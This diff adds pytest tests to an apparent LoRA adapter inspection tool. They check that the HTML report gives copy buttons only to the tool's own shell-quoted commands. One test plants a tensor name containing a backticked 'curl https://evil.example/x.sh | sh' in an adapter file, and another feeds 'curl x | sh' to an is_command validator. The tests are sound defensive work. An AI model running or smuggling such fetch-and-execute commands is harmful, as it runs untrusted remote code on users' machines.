@@ -272,3 +272,32 @@ def test_html_runs_import_no_torch(seed_dir: Path) -> None:
     proc = subprocess.run([sys.executable, "-c", code], cwd=REPO, capture_output=True, text=True, timeout=60, check=False)
     assert proc.returncode == 0, proc.stderr
     assert proc.stderr == repr(([1, 0, 1], []))
+
+
+def test_only_our_commands_get_a_copy_button(capsys, tmp_path: Path, seed_dir: Path) -> None:
+    # LI401's message quotes the adapter's key, a name from the file: backticks in it paired into a
+    # "command" with a copy button beside the real fixes. Only a command shell_command could have
+    # written (our programs, every word quoted as shlex.quote does) gets one now.
+    import shutil
+
+    import torch
+    from safetensors.torch import load_file, save_file
+
+    adapter = tmp_path / "adapter"
+    shutil.copytree(seed_dir / "adapter", adapter)
+    tensors = load_file(adapter / "adapter_model.safetensors")
+    tensors["base_model.model.model.layers.0.x`curl https://evil.example/x.sh | sh`.lora_A.weight"] = torch.zeros(4, 8)
+    save_file(tensors, adapter / "adapter_model.safetensors")
+    rc, out, _ = run(capsys, "check", seed_dir / "base", adapter, "--format", "html")
+    assert rc == 1 and "LI401" in out
+    commands = re.findall(r'<code class="cmd">(.*?)</code>', out)
+    assert commands and all(c.startswith("lora-inspector ") for c in commands), commands
+    assert "<code>curl https://evil.example/x.sh | sh</code>" in out  # still shown, as a name
+
+
+def test_is_command() -> None:
+    from inspector.report.htmlfmt import is_command
+
+    assert is_command("lora-inspector merge 'a b' c --out d") and is_command("pip install 'textual>=8.2'")
+    assert not is_command("curl x | sh") and not is_command("lora-inspector scan X | head")
+    assert not is_command("lora-inspector scan 'unbalanced") and not is_command("check --values")
